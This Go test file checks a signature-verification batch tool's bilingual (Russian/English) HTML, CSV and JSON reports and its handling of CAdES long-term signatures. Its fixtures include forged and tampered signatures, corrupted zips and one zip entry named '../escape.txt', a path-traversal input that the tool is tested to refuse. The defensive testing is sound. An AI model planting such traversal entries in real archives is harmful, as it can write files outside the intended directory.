func subIndicationConstants(t *testing.T) map[string]verify.SubIndication {
	t.Helper()
	files, err := filepath.Glob(filepath.Join("..", "verify", "*.go"))
	if err != nil {
		t.Fatal(err)
	}
	found, err := srcconst.Read(append(files, "report.go"), "SubIndication")
	if err != nil {
		t.Fatal(err)
	}
	consts := make(map[string]verify.SubIndication)
	for _, c := range found {
		consts[c.Name] = verify.SubIndication(c.Value)
	}
	return consts
}

func TestLangSubIndicationMeanings(t *testing.T) {
	consts := subIndicationConstants(t)
	if len(consts) < 18 {
		t.Fatalf("found only %d sub-indication constants: %v", len(consts), consts)
	}
	for name, code := range consts {
		en, ru := meaning(code, English), meaning(code, Russian)
		if en == string(code) || ru == string(code) || en == "" || ru == "" {
			t.Errorf("%s (%s) has no meaning in both languages: %q / %q", name, code, en, ru)
			continue
		}
		if hasCyrillic(en) || !hasCyrillic(ru) {
			t.Errorf("%s: English %q or Russian %q in the wrong language", name, en, ru)
		}
	}
	for _, tt := range []struct {
		code verify.SubIndication
		ru   string
	}{
		{verify.HashFailure, "документ изменён после подписания"},
		{verify.Revoked, "сертификат подписанта отозван до подписания"},
		{verify.TryLater, "не удалось получить статус отзыва сертификата — повторите проверку позже"},
		{verify.NoCertificateChainFound, "не удалось построить цепочку до доверенного корневого сертификата"},
		{verify.OutOfBoundsNoPOE, "срок действия сертификата истёк, а доказательства времени подписания нет"},
	} {
		if got := meaning(tt.code, Russian); got != tt.ru {
			t.Errorf("%s: %q, want %q", tt.code, got, tt.ru)
		}
	}
	if got := meaning("NEW_CODE", Russian); got != "NEW_CODE" {
		t.Errorf("unknown sub-indication: %q", got)
	}
}

func TestLangStatusLabels(t *testing.T) {
	for _, tt := range []struct {
		status Status
		ru     string
	}{
		{Valid, "действительна"},
		{Invalid, "недействительна"},
		{Indeterminate, "не удалось определить"},
		{Unsigned, "нет подписи"},
		{NotChecked, "не проверено"},
	} {
		if got := statusLabel(tt.status, Russian); got != tt.ru {
			t.Errorf("%s: %q, want %q", tt.status, got, tt.ru)
		}
		if got := statusLabel(tt.status, English); got == "" || hasCyrillic(got) {
			t.Errorf("%s: English %q", tt.status, got)
		}
	}
	if got := statusLabel("weird", Russian); got != "weird" {
		t.Errorf("unknown status: %q", got)
	}
}

// TestLangLabels checks that every label of the HTML report and every
// message of batch's part of the catalogue is set in both languages, in
// the right one.
func TestLangLabels(t *testing.T) {
	en, ru := reflect.ValueOf(*htmlLabelsIn(English)), reflect.ValueOf(*htmlLabelsIn(Russian))
	for i := range en.NumField() {
		name, e, r := en.Type().Field(i).Name, en.Field(i).String(), ru.Field(i).String()
		if e == "" || r == "" || hasCyrillic(e) || !hasCyrillic(r) {
			t.Errorf("label %s: %q / %q", name, e, r)
		}
	}
	n := 0
	for _, m := range i18n.Messages() {
		if !strings.HasPrefix(string(m), "batch.") && !strings.HasPrefix(string(m), "meaning.") {
			continue
		}
		n++
		// Messages with an argument take a count or a position.
		if e, r := English.Sprintf(m, 7), Russian.Sprintf(m, 7); hasCyrillic(e) || !hasCyrillic(r) {
			t.Errorf("message %s: %q / %q", m, e, r)
		}
	}
	if n < len(csvHeader)+len(meanings)+len(statusMessages) {
		t.Errorf("only %d messages of batch in the catalogue", n)
	}
}

// TestWriteJSON: the streamed JSON is what one json.Encoder would write.
func TestWriteJSON(t *testing.T) {
	full := sampleReport()
	empty := sampleReport()
	empty.Entries = nil
	one := sampleReport()
	one.Entries = one.Entries[:1]
	// More entries than one window of every CPU, and not a multiple of it.
	many := sampleReport()
	for i := 0; len(many.Entries) < 3*jsonWindow*runtime.NumCPU()+7; i++ {
		e := full.Entries[i%len(full.Entries)]
		e.Path = fmt.Sprintf("%s.%d", e.Path, i)
		many.Entries = append(many.Entries, e)
	}
	for name, r := range map[string]*Report{"full": full, "no entries": empty, "one entry": one, "many": many} {
		var want, got bytes.Buffer
		enc := json.NewEncoder(&want)
		enc.SetEscapeHTML(false)
		enc.SetIndent("", "  ")
		if r.Entries == nil {
			r.Entries = []Entry{}
		}
		if err := enc.Encode(r); err != nil {
			t.Fatal(err)
		}
		if err := r.WriteJSON(&got); err != nil {
			t.Fatal(err)
		}
		if got.String() != want.String() {
			t.Errorf("%s: WriteJSON differs from json.Encoder:\n%s\nwant\n%s", name, got.String(), want.String())
		}
	}
}

// everyKindReport is a real run with an entry of every kind: valid, with
// a countersignature, invalid for each reason the fixtures of testdata/cms
// give (tampered, revoked, forged, swapped certificates, expired, not the
// document it carries, malformed), indeterminate (no chain, no signer
// certificate, no revocation status), unsigned, attached without its
// document, an orphan, unreadable and refused inputs, and inputs not
// checked — and every kind of lower-level error a reason or a detail
// quotes (lowerKinds). Package verify writes its reports in vlang.
func everyKindReport(t *testing.T, vlang Lang) *Report {
	t.Helper()
	opts := batchOptions(t)
	opts.Verify.Lang = vlang
	opts.Verify.TSL = testList(t) // the qualified statuses, with the CAs the list names
	// zipOf is a zip of fixtures of testdata/cms, by their names in it.
	zipOf := func(fixtures map[string]string) []byte {
		files := map[string][]byte{}
		for name, fixture := range fixtures {
			data, err := os.ReadFile(filepath.Join(cmsDir, fixture))
			if err != nil {
				t.Fatal(err)
			}
			files[name] = data
		}
		return zipBytes(t, files)
	}
	// write writes files in a new directory and returns it.
	write := func(files map[string][]byte) string {
		dir := t.TempDir()
		for name, data := range files {
			if err := os.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
				t.Fatal(err)
			}
		}
		return dir
	}
	invoice := func() []byte {
		return zipOf(map[string]string{"invoice.xml": "invoice.xml", "invoice.xml.sig": "invoice.xml.sig"})
	}

	fixtures := map[string]string{
		"x/tampered.xml": "tampered.xml", "x/tampered.xml.sig": "tampered.xml.sig",
		"x/report.txt": "report.txt", "x/report.txt.sgn": "report.txt.sgn",
		"x/contract.p7m":     "contract.txt.attached_2012_256.sig",                               // attached, no document beside
		"x/contract.txt.p7m": "contract.txt.attached_2012_256.sig", "x/contract.txt": "long.txt", // not its document
		"x/letter.txt.p7s": "letter.txt.p7s", "x/bad_random.sig": "bad_random.sig", "x/notes.txt": "long.txt",
	}
	for d, fixture := range map[string]string{
		"valid": "invoice.xml.countersigned.sig", "forged": "invoice.xml.badsig.sig", "twin": "invoice.xml.swapped_twin.sig",
		"other": "invoice.xml.swapped_other.sig", "expired": "invoice.xml.expired.sig", "selfsigned": "invoice.xml.selfsigned.sig",
		"nocerts": "invoice.xml.nocerts.sig", "two": "invoice.xml.two_signers.sig",
	} {
		fixtures[d+"/invoice.xml"], fixtures[d+"/invoice.xml.sig"] = "invoice.xml", fixture
	}
	dir := write(map[string][]byte{
		"in.zip":     zipOf(fixtures),
		"broken.zip": []byte("this is not a zip archive"),
		"outer.zip":  zipBytes(t, map[string][]byte{"../escape.txt": []byte("outside")}),
	})
	lowerKinds(t, dir)
	rep, err := Run(context.Background(), []string{dir}, opts)
	if err != nil {
		t.Fatal(err)
	}

	// TRY_LATER: the responder does not answer.
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	downOpts := opts
	downOpts.Verify.OCSPURL = "http://" + l.Addr().String() + "/ocsp"
	l.Close()
	later, err := Run(context.Background(), []string{write(map[string][]byte{"down.zip": invoice()})}, downOpts)
	if err != nil {
		t.Fatal(err)
	}

	// Not checked: the run is interrupted before it starts.
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	stopped, err := Run(ctx, []string{write(map[string][]byte{"late.zip": invoice()})}, opts)
	if err != nil {
		t.Fatal(err)
	}

	// Long-term signatures: forms, timestamps, layers.
	longTerm := cadesReport(t, vlang)

	for _, o := range []*Report{later, stopped, longTerm} {
		rep.Inputs = append(rep.Inputs, o.Inputs...)
		rep.Entries = append(rep.Entries, o.Entries...)
		rep.Summary.Problems = append(rep.Summary.Problems, o.Summary.Problems...)
		rep.Summary.NotChecked += o.Summary.NotChecked
	}
	rep.Interrupted = true

	// The report has every kind of entry.
	seen := map[string]bool{}
	for _, e := range rep.Entries {
		seen[e.Kind], seen[string(e.Status)], seen[string(e.SubIndication)], seen["pairing "+e.Pairing] = true, true, true, true
		for _, s := range signersOf(e.Verification) {
			seen[string(s.SubIndication)], seen["position "+s.Position] = true, true
		}
	}
	for _, want := range []string{KindUnreadable, KindRefused, string(Valid), string(Invalid), string(Indeterminate),
		string(Unsigned), string(NotChecked), "pairing " + PairedAttached, "pairing " + PairedNone, "position 1.1",
		string(verify.HashFailure), string(verify.Revoked), string(verify.SigCryptoFailure), string(verify.SigConstraintsFailure),
		string(verify.NoSigningCertificateFound), string(verify.OutOfBoundsNoPOE), string(verify.NoCertificateChainFound),
		string(verify.FormatFailure), string(verify.TryLater), string(SignedDataNotFound)} {
		if !seen[want] {
			t.Errorf("the report has no %s", want)
		}
	}
	return rep
}

// lowerKinds adds to dir an input for each kind of lower-level error
// verify.Detail says in the reader's language, and which
// TestRussianHasNoEnglish finds said in Russian (lowerKindWords):
//   - a missing file (a dangling symbolic link: fs.ErrNotExist);
//   - a zip archive entry whose checksum does not match (zip.ErrChecksum),
//     for a signature and for a document;
//   - an entry shorter than it declares (io.ErrUnexpectedEOF);
//   - a truncated signature (cms's encoding error);
//   - a SignedData version and a countersignature's SignerInfo version
//     RFC 5652 does not allow (*cms.VersionError).
//
// broken.zip (zip.ErrFormat) and x/bad_random.sig (garbage) are in
// everyKindReport already.
func lowerKinds(t *testing.T, dir string) {
	t.Helper()
	fixture := func(name string) []byte {
		data, err := os.ReadFile(filepath.Join(cmsDir, name))
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	// withByte is fixture name with byte off, a version number, set to b
	// (the offsets are those of openssl asn1parse -i).
	withByte := func(name string, off int, was, b byte) []byte {
		data := fixture(name)
		if data[off] != was {
			t.Fatalf("%s: byte %d is %#x, not %#x: the fixture changed", name, off, data[off], was)
		}
		data[off] = b
		return data
	}
	if err := os.Symlink("nowhere.sig", filepath.Join(dir, "gone.sig")); err != nil {
		t.Fatal(err)
	}
	sig, doc := fixture("invoice.xml.sig"), fixture("invoice.xml")
	badCRC := func(name string, data []byte) entrySpec {
		return rawEntry(name, zip.Store, data, uint64(len(data)), crc32.ChecksumIEEE(data)^1, 0)
	}
	files := map[string][]byte{
		"crc.zip": buildTestZip(t, badCRC("invoice.xml.sig", sig), entrySpec{name: "invoice.xml", data: doc}),
		"crcdoc.zip": buildTestZip(t, entrySpec{name: "invoice.xml.sig", data: sig}, badCRC("invoice.xml", doc),
			rawEntry("short.sig", zip.Store, sig, uint64(len(sig))+100, crc32.ChecksumIEEE(sig), 0)),
		"truncated.sig": fixture("bad_truncated.sig"),
		"version.sig":   withByte("invoice.xml.sig", 25, 1, 2),
	}
	for name, data := range files {
		writeTestFile(t, filepath.Join(dir, name), data)
	}
	cs := filepath.Join(dir, "csversion")
	writeTestFile(t, filepath.Join(cs, "invoice.xml"), doc)
	writeTestFile(t, filepath.Join(cs, "invoice.xml.sig"), withByte("invoice.xml.countersigned.sig", 4704, 1, 3))
}

// lowerKindWords are what a Russian report says of the inputs
// lowerKinds adds and of broken.zip and x/bad_random.sig; fromVerify
// marks those of a verify report, which a renderer says in Russian
// whatever the run's language.
var lowerKindWords = []struct {
	words      string
	fromVerify bool
}{
	{"gone.sig: нет такого файла или папки", false},
	{"не читается как zip-архив: архив повреждён, обрезан или это не zip", false},
	{"crc.zip!/invoice.xml.sig: не совпадает контрольная сумма: файл в архиве повреждён", false},
	{"crcdoc.zip!/invoice.xml не удалось прочитать: batch: ", false},
	{"файл архива кончается раньше заявленных", false},
	{"Файл не является подписью CMS или повреждён: неверный формат файла подписи", true},
	{"Файл не является подписью CMS или повреждён: структура SignedData: версия SignedData — 2, а по RFC 5652 (раздел 5.1) должна быть 1", true},
	{"подпись 1.1: версия SignerInfo — 3, а по RFC 5652 (раздел 5.3) должна быть 1", true},
}

// knownEnglish are the texts of r that are not batch's and are known to
// be English in a Russian report, to be left for later. Each is the exact
// text; anything else English fails TestRussianHasNoEnglish.
func knownEnglish(r *Report, vlang Lang) []string {
	var known []string
	add := func(s ...string) {
		for _, x := range s {
			if x != "" {
				known = append(known, x, displayPath(x))
			}
		}
	}
	add(r.Inputs...)
	for i := range r.Entries {
		e := &r.Entries[i]
		// Names, not sentences.
		add(e.Path, e.Document)
		// An entry's own reason without a verify report (unreadable,
		// refused, orphan), or once the run was interrupted, is written
		// in the run's language (verify.Options.Lang): English only when
		// the run was English.
		if vlang == English && (e.Verification == nil || e.Status == NotChecked) {
			add(e.Reason)
		}
		if e.Verification == nil {
			continue
		}
		add(goErrors(e.Verification.Cause)...)
		// Warnings verify does not print in another language: a quirk of
		// package cms verify has no message for, as cms.Quirk's String
		// says it (in English). They are the same in both languages.
		en, ru := localized(e.Verification, English), localized(e.Verification, Russian)
		for j, w := range ru.Warnings {
			if w == en.Warnings[j] {
				add(w)
			}
		}
		ens, rus := signersOf(en), signersOf(ru)
		for j, s := range rus {
			for k, w := range s.Warnings {
				if w == ens[j].Warnings[k] {
					add(w)
				}
			}
			// The technical detail is the Go error, in English as every
			// error of the project (STYLE.md), and so are the errors of
			// lower packages a reason quotes — but for those
			// verify.Detail says in Russian (a version RFC 5652 does not
			// allow).
			if !errors.As(s.Cause, new(*cms.VersionError)) {
				add(s.Error)
			}
			add(goErrors(s.Cause)...)
			if p := s.Signer; p != nil {
				add(signerName(p), p.Subject, p.CommonName, p.Title, p.Organization)
			}
			for _, c := range s.Chain {
				add(c.Subject)
			}
			// The names of the CAdES forms (the standard's, "CAdES-X
			// Long Type 1", as verify's text says them in Russian too),
			// and of the TSAs.
			add(s.Level)
			for _, ly := range s.Layers {
				add(ly.Level)
			}
			for _, ts := range s.Timestamps {
				add(ts.TSA)
			}
		}
	}
	// The longest first, so that a text is removed before a part of it.
	slices.SortFunc(known, func(a, b string) int { return len(b) - len(a) })
	return known
}

// goErrors are the texts of the errors of lower packages (chain,
// ocspclient, fetch) that verify's reason for cause quotes as they are.
// Those of cms's parser, archive/zip and io are not among them: a reason
// says them in Russian.
func goErrors(cause error) []string {
	var (
		out []string
		pe  *verify.PathError
		re  *verify.RevocationError
	)
	if errors.As(cause, &pe) {
		out = append(out, pe.Err.Error(), pe.Issuer)
		for _, r := range pe.Rejected {
			out = append(out, r.Err.Error(), r.Candidate.Subject.CommonName)
		}
		for _, d := range pe.Downloads {
			out = append(out, d.Error, d.Class)
		}
	}
	if errors.As(cause, &re) {
		for _, err := range re.Failures {
			out = append(out, err.Error())
		}
		if re.Certificate != nil {
			out = append(out, re.Certificate.Subject.CommonName)
		}
	}
	return out
}

var (
	htmlStyle = regexp.MustCompile(`(?s)<style>.*?</style>`)
	htmlTag   = regexp.MustCompile(`<[^>]*>`)
	// Codes, dates, numbers and identifiers: not sentences.
	notWords = []*regexp.Regexp{
		regexp.MustCompile(`[a-z]+://\S+`),                          // URLs
		regexp.MustCompile(`\S+@\S+`),                               // e-mail addresses
		regexp.MustCompile(`\b\d+(\.\d+){2,}\b`),                    // OIDs
		regexp.MustCompile(`\d{4}-\d\d-\d\d([T ][0-9:.]+Z?)?`),      // dates
		regexp.MustCompile(`\b[0-9A-Fa-f]{6,}\b`),                   // hex
		regexp.MustCompile(`\b[A-Z][A-Z0-9_]*\b`),                   // UPPER_CASE codes, OCSP, UTC
		regexp.MustCompile(`\b[a-z][a-z0-9]*[A-Z_][A-Za-z0-9_]*\b`), // not_checked, keyCompromise
	}
	latinRun = regexp.MustCompile(`[A-Za-z]+(['’-][A-Za-z]+)*(\s+[A-Za-z]+(['’-][A-Za-z]+)*)+`)
)

// englishRuns are the runs of two or more Latin words in text once the
// known texts, codes and identifiers are taken out.
func englishRuns(text string, known []string) []string {
	for _, k := range known {
		text = strings.ReplaceAll(text, k, " ")
	}
	for _, re := range notWords {
		text = re.ReplaceAllString(text, " ")
	}
	return latinRun.FindAllString(text, -1)
}

// TestRussianHasNoEnglish: the HTML протокол, the CSV and the summary in
// Russian have no English sentence, whether verify wrote its reports in
// English (the renderers print them in Russian) or in Russian, but for the
// texts knownEnglish lists.
func TestRussianHasNoEnglish(t *testing.T) {
	for _, vlang := range []Lang{English, Russian} {
		t.Run("verify in "+string(vlang), func(t *testing.T) {
			r := everyKindReport(t, vlang)
			known := knownEnglish(r, vlang)
			var page, table, summary bytes.Buffer
			if err := r.WriteHTML(&page, Russian); err != nil {
				t.Fatal(err)
			}
			if err := r.WriteCSV(&table, Russian); err != nil {
				t.Fatal(err)
			}
			if err := r.WriteSummary(&summary, Russian); err != nil {
				t.Fatal(err)
			}
			text := html.UnescapeString(htmlTag.ReplaceAllString(htmlStyle.ReplaceAllString(page.String(), ""), "\n"))
			for _, run := range englishRuns(text, known) {
				t.Errorf("HTML: English %q", run)
			}
			rows, err := csv.NewReader(&table).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for _, run := range englishRuns(strings.Join(rows[0], "\n"), known) {
				t.Errorf("CSV header: English %q", run)
			}
			// The reason column; the others are codes, paths, names,
			// numbers and times.
			for _, row := range rows[1:] {
				for _, run := range englishRuns(strings.TrimPrefix(row[6], "'"), known) {
					t.Errorf("CSV, %s: English %q", row[0], run)
				}
			}
			for _, run := range englishRuns(summary.String(), known) {
				t.Errorf("summary: English %q", run)
			}
			// The entries' own reasons, which the JSON report keeps, are
			// in the run's language.
			for i := range r.Entries {
				if e := &r.Entries[i]; vlang == Russian {
					for _, run := range englishRuns(e.Reason, known) {
						t.Errorf("reason of %s: English %q", e.Path, run)
					}
				}
			}
			// The qualified status is there, in Russian.
			for _, w := range []string{Russian.Sprintf(i18n.BatchQualified), Russian.Sprintf(i18n.BatchQualifiedCA), Russian.Sprintf(i18n.BatchTSL)} {
				if !strings.Contains(text, w) {
					t.Errorf("HTML: no %q", w)
				}
			}
			// Each kind of lower-level error is there, in Russian.
			for _, k := range lowerKindWords {
				if (k.fromVerify || vlang == Russian) && !strings.Contains(text, k.words) {
					t.Errorf("HTML: no %q", k.words)
				}
			}
			// The renderers printed copies: the report is as Run made it.
			if vlang == English && !slices.ContainsFunc(r.Entries, func(e Entry) bool {
				return e.Verification != nil && e.Verification.SubIndication == verify.FormatFailure &&
					strings.HasPrefix(e.Verification.Reason, "the file is not a readable CMS signature")
			}) {
				t.Errorf("rendering in Russian changed the verify reports")
			}
		})
	}
}

// cadesFixtures are long-term signatures of testdata/cades, each in a
// folder of its own beside its document, and what each shows in the
// reports (validated a year after the signer's certificate expired,
// offline, as the fixtures' README says).
var cadesFixtures = map[string]string{
	"xl1":      "xl1.sig",                // CAdES-X Long Type 1, valid, proven at its signature timestamp
	"tampered": "t_tampered_imprint.sig", // CAdES-T whose only timestamp is HASH_FAILURE: OUT_OF_BOUNDS_NO_POE
	"operator": "xl1_operator_bad_t.sig", // valid; an operator's broken timestamp, which its CAdES-T layer reports
	"escwrong": "xl1_esc_wrong.sig",      // valid; its X layer broken
	"xl2":      "xl2.sig",                // CAdES-X Long Type 2: a timestamp over the references
	"archive":  "a.sig",                  // CAdES-A: an archive timestamp
}

// cadesReport runs batch over cadesFixtures, with reports in vlang.
func cadesReport(t *testing.T, vlang Lang) *Report {
	t.Helper()
	dir := filepath.Join("..", "testdata", "cades")
	read := func(name string) []byte {
		data, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		return data
	}
	roots, err := chain.LoadStore([]string{filepath.Join(dir, "pki", "root.pem")})
	if err != nil {
		t.Fatal(err)
	}
	signer, err := chain.LoadCertificates(filepath.Join(dir, "pki", "signer.pem"))
	if err != nil {
		t.Fatal(err)
	}
	in := t.TempDir()
	for folder, fixture := range cadesFixtures {
		writeTestFile(t, filepath.Join(in, folder, "doc.txt"), read("doc.txt"))
		writeTestFile(t, filepath.Join(in, folder, "doc.txt.sig"), read(fixture))
	}
	offline := &fetch.Client{Offline: true}
	rep, err := Run(context.Background(), []string{in}, Options{Verify: verify.Options{
		Roots: roots, Time: signer[0].NotAfter.AddDate(1, 0, 0), Lang: vlang,
		OCSP: &ocspclient.Client{HTTP: offline}, CRL: &ocspclient.CRLChecker{HTTP: offline},
	}})
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// cadesSigner is the signer report of the signature in folder.
func cadesSigner(t *testing.T, r *Report, folder string) *verify.SignatureReport {
	t.Helper()
	for i := range r.Entries {
		if e := &r.Entries[i]; e.Kind == KindSignature && strings.HasSuffix(e.Path, folder+"/doc.txt.sig") {
			if e.Verification == nil || len(e.Verification.Signatures) != 1 {
				t.Fatalf("%s: no signer report", e.Path)
			}
			return &e.Verification.Signatures[0]
		}
	}
	t.Fatalf("no signature in %s", folder)
	return nil
}

// htmlSections splits an HTML report into the sections of its documents,
// by folder of cadesFixtures, as plain text.
func htmlSections(t *testing.T, page string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, part := range strings.Split(page, `<section class="block document">`)[1:] {
		text := html.UnescapeString(htmlTag.ReplaceAllString(part, "\n"))
		for folder := range cadesFixtures {
			if strings.Contains(text, "/"+folder+"/doc.txt") {
				out[folder] = text
			}
		}
	}
	if len(out) != len(cadesFixtures) {
		t.Fatalf("%d document sections for %d folders", len(out), len(cadesFixtures))
	}
	return out
}

// TestLongTermHTML: the протокол shows each signature's form, each
// timestamp with what it covers, its time, TSA and verdict (with the reason
// when it is not valid), the best-signature-time when a timestamp proves
// it, and the layers, in both languages; the Russian has no English.
func TestLongTermHTML(t *testing.T) {
	const tsa = `CN=Служба штампов времени gostverify (CAdES), O=gostverify (тестовые данные), C=RU`
	for _, vlang := range []Lang{English, Russian} {
		r := cadesReport(t, vlang)
		proven := formatTime(*cadesSigner(t, r, "xl1").BestSignatureTime)
		for _, lang := range []Lang{English, Russian} {
			t.Run("verify in "+string(vlang)+", report in "+string(lang), func(t *testing.T) {
				var page bytes.Buffer
				if err := r.WriteHTML(&page, lang); err != nil {
					t.Fatal(err)
				}
				sections := htmlSections(t, page.String())
				w := func(m i18n.Message) string { return lang.Sprintf(m) }
				valid, invalid := "✓ "+w(i18n.PartValid), "✗ "+w(i18n.PartInvalid)
				// Lines of the dl and the tables, in order, as the
				// section's text has them.
				for folder, want := range map[string][]string{
					"xl1": {w(i18n.BatchForm), "CAdES-X Long Type 1", w(i18n.BatchBestSignatureTime), proven,
						w(i18n.BatchTimestamps), w(i18n.BatchTimestampKind), w(i18n.BatchTimestampTime), w(i18n.BatchTSA),
						w(i18n.BatchTSKindSignature), proven, tsa, valid, w(i18n.BatchTSKindCAdESC),
						w(i18n.BatchLayers), "CAdES-BES", valid, "CAdES-T", valid, "CAdES-X Long Type 1", valid},
					"tampered": {"CAdES-T", w(i18n.BatchTSKindSignature), tsa, invalid, "HASH_FAILURE",
						lang.Sprintf(i18n.TSImprintMismatch, i18n.T(i18n.TSCoversSignature)),
						"CAdES-BES", valid, "CAdES-T", invalid, lang.Sprintf(i18n.LayerNoValidTimestamp, 1)},
					"operator": {"CAdES-X Long Type 1", w(i18n.BatchBestSignatureTime), proven, w(i18n.BatchTSKindSignature), valid,
						w(i18n.BatchTSKindSignature), invalid, "HASH_FAILURE", w(i18n.BatchTSKindCAdESC), valid,
						"CAdES-T", valid, lang.Sprintf(i18n.LayerSomeTimestampsFailed, 1, 2)},
					"escwrong": {w(i18n.BatchTSKindCAdESC), invalid, "HASH_FAILURE", "CAdES-X Long Type 1", invalid,
						lang.Sprintf(i18n.LayerXTimestampFailed)},
					"xl2":     {"CAdES-X Long Type 2", w(i18n.BatchTSKindRefs), valid},
					"archive": {"CAdES-A", w(i18n.BatchTSKindArchive), valid, "CAdES-A", valid},
				} {
					lines := strings.Split(sections[folder], "\n")
					at := 0
					for _, s := range want {
						i := slices.IndexFunc(lines[at:], func(line string) bool { return strings.Contains(line, s) })
						if i < 0 {
							t.Errorf("%s: no %q after line %d:\n%s", folder, s, at, sections[folder])
							break
						}
						at += i + 1
					}
				}
				if strings.Contains(sections["tampered"], w(i18n.BatchBestSignatureTime)) {
					t.Errorf("tampered: a best-signature-time no timestamp proves:\n%s", sections["tampered"])
				}
				if lang != Russian {
					return
				}
				text := html.UnescapeString(htmlTag.ReplaceAllString(htmlStyle.ReplaceAllString(page.String(), ""), "\n"))
				for _, run := range englishRuns(text, knownEnglish(r, vlang)) {
					t.Errorf("HTML: English %q", run)
				}
			})
		}
	}
}

// TestLongTermCSV: level and best_signature_time follow the revocation
// columns, the time only when a timestamp proves it.
func TestLongTermCSV(t *testing.T) {
	r := cadesReport(t, English)
	var b bytes.Buffer
	if err := r.WriteCSV(&b, English); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	level := slices.Index(rows[0], "level")
	if level < 0 || rows[0][level+1] != "best_signature_time" {
		t.Fatalf("header %q", rows[0])
	}
	proven := cadesSigner(t, r, "xl1").BestSignatureTime.UTC().Format(time.RFC3339)
	for folder, want := range map[string][2]string{
		"xl1": {"CAdES-X Long Type 1", proven}, "tampered": {"CAdES-T", ""}, "operator": {"CAdES-X Long Type 1", proven},
		"xl2": {"CAdES-X Long Type 2", proven}, "archive": {"CAdES-A", proven},
	} {
		i := slices.IndexFunc(rows, func(row []string) bool { return strings.HasSuffix(row[0], folder+"/doc.txt.sig") })
		if i < 0 {
			t.Fatalf("no row for %s", folder)
		}
		row := rows[i]
		if got := [2]string{row[level], row[level+1]}; got != want {
			t.Errorf("%s: level, best_signature_time = %q, want %q", folder, got, want)
		}
	}
}

// TestProvenTime: the best-signature-time is shown when a valid signature,
// CAdES-C or archive timestamp proves it, not when it is the validation
// time or only a content or refs timestamp has its time.
func TestProvenTime(t *testing.T) {
	at, other := ptime("2026-12-04T18:45:51Z"), ptime("2028-06-01T00:00:00Z")
	for _, tt := range []struct {
		name   string
		stamps []verify.TimestampReport
		best   *time.Time
		want   bool
	}{
		{"signature", []verify.TimestampReport{{Kind: verify.KindSignature, Time: at, Status: verify.Valid}}, at, true},
		{"cades-c", []verify.TimestampReport{{Kind: verify.KindCAdESC, Time: at, Status: verify.Valid}}, at, true},
		{"archive", []verify.TimestampReport{{Kind: verify.KindArchive, Time: at, Status: verify.Valid}}, at, true},
		{"invalid", []verify.TimestampReport{{Kind: verify.KindSignature, Time: at, Status: verify.Invalid}}, at, false},
		{"content", []verify.TimestampReport{{Kind: verify.KindContent, Time: at, Status: verify.Valid}}, at, false},
		{"refs", []verify.TimestampReport{{Kind: verify.KindRefs, Time: at, Status: verify.Valid}}, at, false},
		{"validation time", []verify.TimestampReport{{Kind: verify.KindSignature, Time: at, Status: verify.Invalid}}, other, false},
		{"none", nil, other, false},
		{"no time", []verify.TimestampReport{{Kind: verify.KindSignature, Time: at, Status: verify.Valid}}, nil, false},
	} {
		s := &verify.SignatureReport{Timestamps: tt.stamps, BestSignatureTime: tt.best}
		if got := provenTime(s) != nil; got != tt.want {
			t.Errorf("%s: proven %v, want %v", tt.name, got, tt.want)
		}
	}
}

// TestLongTermRenderKeepsReport: rendering in another language prints
// copies of the timestamps and layers: the report, and so its JSON, is as
// Run made it.
func TestLongTermRenderKeepsReport(t *testing.T) {
	r := cadesReport(t, English)
	var before, after bytes.Buffer
	if err := r.WriteJSON(&before); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteHTML(io.Discard, Russian); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteCSV(io.Discard, Russian); err != nil {
		t.Fatal(err)
	}
	if err := r.WriteJSON(&after); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(before.Bytes(), after.Bytes()) {
		t.Errorf("rendering in Russian changed the report")
	}
	if !strings.Contains(before.String(), "the timestamp was made for other data") {
		t.Errorf("the English report has no English timestamp reason")
	}
}
